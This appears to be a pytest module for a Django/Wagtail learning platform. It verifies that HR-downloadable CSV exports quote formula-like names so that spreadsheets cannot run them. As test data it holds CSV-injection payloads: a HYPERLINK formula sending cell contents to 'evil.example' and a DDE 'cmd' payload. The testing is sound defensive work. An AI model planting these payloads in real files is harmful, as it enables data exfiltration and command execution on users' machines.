"""No CSV the platform writes can run as a formula in a spreadsheet (OWASP "CSV injection").

People named like formulas come in through the real HR import (upload, dry run, confirm, as HR
does it); every CSV export HR can download is read back with ``csv.reader``: each cell holding
such a name starts with ``'`` and no cell starts with a formula character. The XLSX exports keep
the names as they are, as text."""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import Resolver404, URLResolver, get_resolver, path, resolve, reverse
from django.utils import timezone
from django.utils.translation import gettext_lazy
from django.views import View
from openpyxl import load_workbook
from wagtail.admin.views.generic.models import IndexView as GenericIndexView
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from lms.certificates import services as certificate_services
from lms.core.spreadsheets import FORMULA_STARTS, SafeCsvWriter, SafeSpreadsheetExportMixin, safe_csv_cell
from lms.courses.models import Enrolment
from lms.imports.models import ImportRun, ImportRunStatus
from lms.organisation.models import OrgUnitKind, Person
from lms.reports import services as report_services
from lms.reports.exports import EXPORTS
from lms.requirements.models import TrainingEvent
from tests.certificates.factories import complete, make_certificate_course
from tests.courses.factories import make_course
from tests.factories import OrgUnitFactory, hr_user
from tests.helpers import body

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'
# Imported as first and last name, so a cell made of both ("first last", "last, first") starts with one.
NAMES = [HYPERLINK, "=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3", "@SUM(A1)", "\tTabba"]
HEADER = ["employee number", "first name", "last name", "e-mail", "org unit code", "audience"]


def test_the_rule_quotes_formula_text_and_leaves_everything_else():
    values = [*NAMES, "\r=1+1", "Anna", "", None, -3, -2.5, Decimal("-1.5"), gettext_lazy("yes"), "'=already"]
    assert [safe_csv_cell(v) for v in values] == [
        "'" + HYPERLINK,
        "'=cmd|' /C calc'!A0",
        "'+SUM(1+1)",
        "'-2+3",
        "'@SUM(A1)",
        "'\tTabba",
        "'\r=1+1",
        "Anna",
        "",
        None,
        -3,
        -2.5,
        Decimal("-1.5"),
        "ja",
        "'=already",
    ]


def test_the_writer_wrapper_quotes_lists_and_dicts():
    out = io.StringIO()
    writer = SafeCsvWriter(csv.writer(out))
    writer.writerow(["=1+1", -3, "ok"])
    dict_writer = SafeCsvWriter(csv.DictWriter(out, fieldnames=["a", "b"]))
    dict_writer.writerow({"a": "@x", "b": 4})
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "-3", "ok"], ["'@x", "4"]]


def hr_file() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADER)
    for number, name in enumerate(NAMES, start=1001):
        writer.writerow([number, name, name, f"p{number}@example.se", "U1", "medarbetare"])
    return out.getvalue().encode("utf-8")


@pytest.fixture
def world(home_page, client, django_capture_on_commit_callbacks):
    root = OrgUnitFactory(name="Kommun", code="ROOT", kind=OrgUnitKind.MUNICIPALITY)
    unit = OrgUnitFactory(name="Ekskolan", code="U1", parent=root)
    user = hr_user(username="hr-csv")
    client.force_login(user)
    # The real HR import, as HR runs it: upload (dry run), then confirm (real run).
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            "/admin/organisation/imports/",
            {"file": SimpleUploadedFile("export.csv", hr_file(), "text/csv"), "kind": "people"},
        )
    run = ImportRun.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/admin/organisation/imports/{run.pk}/confirm/")
    run.refresh_from_db()
    stored = sorted(get_user_model().objects.filter(person__isnull=False).values_list("first_name", flat=True))
    # The import strips spaces and tabs around values; a tab-leading name can still come from
    # elsewhere (single sign-on claims, an older import), so one is written as such here.
    assert (run.status, stored) == (ImportRunStatus.DONE, sorted([*NAMES[:-1], "Tabba"]))
    get_user_model().objects.filter(first_name="Tabba").update(first_name="\tTabba", last_name="\tTabba")

    course, _ = make_course(title="Demokrati", lessons=1)
    past = timezone.localdate() - timedelta(days=10)
    for person in Person.objects.all():  # everyone overdue on one required course
        Enrolment.objects.create(
            person=person, course=course, cycle=1, source="assigned", is_required=True, due_date=past
        )
    certificate_course, lessons = make_certificate_course(title="Intygskurs")
    holder = Person.objects.get(user__first_name=HYPERLINK)
    certificate_services.certificate_issue(enrolment=complete(holder, lessons))
    report_services.summary_refresh()
    return {"unit": unit, "user": user, "course": course}


def read_csv(response) -> list[list[str]]:
    """The data rows of a CSV download (headings dropped)."""
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(body(response).lstrip("\ufeff"))))[1:]


def scan(rows: list[list[str]]) -> dict:
    """Which of the names appear quoted at the start of a cell, and every cell a spreadsheet would run."""
    cells = [cell for row in rows for cell in row]
    return {
        "quoted": {name for name in NAMES for cell in cells if cell.startswith("'" + name)},
        "live": [cell for cell in cells if cell.startswith(FORMULA_STARTS)],
    }


# Exports with first and last name in their own columns show the tab-leading name at a cell's start;
# those showing "first last" get it from get_full_name(), which strips the leading tab.
EVERYONE = {"quoted": set(NAMES), "live": []}
FULL_NAMES = {"quoted": set(NAMES) - {"\tTabba"}, "live": []}


@pytest.mark.parametrize(("name", "expected"), [("reports_enrolments", EVERYONE), ("reports_overdue", EVERYONE)])
def test_report_csv_exports_show_the_names_as_text(client, world, name, expected):
    assert scan(read_csv(client.get(reverse(name), {"export": "csv"}))) == expected


def test_the_drill_down_csv_shows_the_names_as_text(client, world):
    response = client.get(reverse("reports_unit", args=[world["unit"].pk]), {"export": "csv"})
    assert scan(read_csv(response)) == FULL_NAMES


def test_the_people_list_csv_shows_the_names_as_text(client, world):
    assert scan(read_csv(client.get("/admin/organisation/people/", {"export": "csv"}))) == FULL_NAMES


def test_the_certificates_list_csv_shows_the_name_as_text(client, world):
    response = client.get(reverse("wagtailsnippets_certificates_certificate:list"), {"export": "csv"})
    assert scan(read_csv(response)) == {"quoted": {HYPERLINK}, "live": []}


def test_a_background_csv_export_shows_the_names_as_text(client, world, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):  # the worker runs at once in the tests
        job = report_services.export_job_create(user=world["user"], report="enrolments", params={}, export_format="csv")
    assert scan(read_csv(client.get(reverse("reports_export_download", args=[job.pk])))) == EVERYONE


def test_a_plain_viewset_csv_export_is_safe_too(client, world):
    """Training events are not people's rows (a plain ModelViewSet): the same rule applies."""
    start = timezone.now() + timedelta(days=3)
    TrainingEvent.objects.create(
        title=HYPERLINK,
        course=world["course"],
        starts_at=start,
        ends_at=start + timedelta(hours=2),
        place="@SUM(A1)",
        seats=5,
    )
    rows = read_csv(client.get("/admin/required-training/events/", {"export": "csv"}))
    assert (rows[0][0], rows[0][4], scan(rows)["live"]) == ("'" + HYPERLINK, "'@SUM(A1)", [])


def test_the_xlsx_exports_keep_the_names_unquoted_as_text(client, world):
    response = client.get("/admin/organisation/people/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(body_bytes(response)), read_only=True).worksheets[0]
    names = {(row[0].value, row[0].data_type) for row in list(sheet.iter_rows())[1:]}
    assert names == {(person.full_name, "s") for person in Person.objects.select_related("user")}


def body_bytes(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- Every export on the safe base -------------------------------------------------------------------


def _routes(patterns, prefix=""):
    """(a path each URL pattern matches, its pattern) for every pattern of the URLconf."""
    for pattern in patterns:
        route = prefix + re.sub(r"<(?:\w+:)?\w+>", "1", str(pattern.pattern)).lstrip("^").rstrip("$")
        if isinstance(pattern, URLResolver):
            yield from _routes(pattern.url_patterns, route)
        elif "(" not in route and "\\" not in route:  # a regex pattern: Wagtail's page serving, no export
            yield "/" + route, pattern


def _view_class(callback, depth=0):
    """The class-based view behind a URL's callback, through the decorators around it (some, such as
    Wagtail's require_admin_access, keep the view only in their closure)."""
    if view_class := getattr(callback, "view_class", None):
        return view_class, getattr(callback, "view_initkwargs", {})
    inner = [getattr(callback, "__wrapped__", None)]
    inner += [cell.cell_contents for cell in getattr(callback, "__closure__", None) or ()]
    for candidate in inner:
        if callable(candidate) and depth < 6:
            view_class, initkwargs = _view_class(candidate, depth + 1)
            if view_class:
                return view_class, initkwargs
    return None, {}


def export_views() -> dict[str, type]:
    """The view class each path that can export a spreadsheet resolves to (the one that serves it, not
    one shadowed by an earlier pattern)."""
    found = {}
    for route, _pattern in _routes(get_resolver().url_patterns):
        try:
            match = resolve(route)
        except Resolver404:
            continue
        view_class, initkwargs = _view_class(match.func)
        if view_class and issubclass(view_class, SpreadsheetExportMixin):
            if initkwargs.get("list_export") or getattr(view_class, "list_export", None):
                found[route] = view_class
    return found


def test_every_export_view_writes_its_csv_through_the_safe_base():
    views = export_views()
    # The walk finds our viewsets', our reports' and Wagtail's own report views.
    assert {"/admin/organisation/people/", "/admin/reports/completion/courses/", "/admin/reports/locked/"} <= set(views)
    assert {route: cls for route, cls in views.items() if not issubclass(cls, SafeSpreadsheetExportMixin)} == {}


def _subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _subclasses(sub)


def test_every_export_class_of_the_project_is_on_the_safe_base():
    """The background exports (reports.exports.EXPORTS) and any other class of ours that exports outside
    a view (views are the walk's: a viewset builds its views from the classes it declares)."""
    ours = {
        cls
        for cls in _subclasses(SpreadsheetExportMixin)
        if cls.__module__.startswith("lms.") and not issubclass(cls, View)
    }
    assert set(EXPORTS.values()) <= ours
    assert {cls for cls in ours if not issubclass(cls, SafeSpreadsheetExportMixin)} == set()


def test_the_viewset_bases_put_their_listings_on_the_safe_base():
    from lms.requirements.wagtail_hooks import TrainingEventViewSet

    assert issubclass(TrainingEventViewSet().index_view.view_class, SafeSpreadsheetExportMixin)


# The walk can fail: this module as a URLconf serves one plain Wagtail listing with an export.
urlpatterns = [path("plain/", GenericIndexView.as_view(model=TrainingEvent, list_export=["title"]))]


@pytest.mark.urls("tests.core.test_csv_injection")
def test_the_walk_reports_an_export_off_the_safe_base():
    assert export_views() == {"/plain/": GenericIndexView}


def test_wagtails_own_report_exports_are_served_on_the_safe_base(client, home_page, admin_user):
    """Wagtail's locked pages report (served ahead of Wagtail's in config/urls.py): a page titled like a
    formula, locked by a user named like one, comes out as text."""
    from home.models import StandardPage

    admin_user.first_name, admin_user.last_name = "@SUM(A1)", "-2+3"
    admin_user.save()
    page = home_page.add_child(instance=StandardPage(title=HYPERLINK, slug="formula"))
    page.locked, page.locked_by, page.locked_at = True, admin_user, timezone.now()
    page.save()
    client.force_login(admin_user)
    rows = read_csv(client.get("/admin/reports/locked/", {"export": "csv"}))
    assert rows[0][0] == "'" + HYPERLINK and scan(rows)["live"] == []
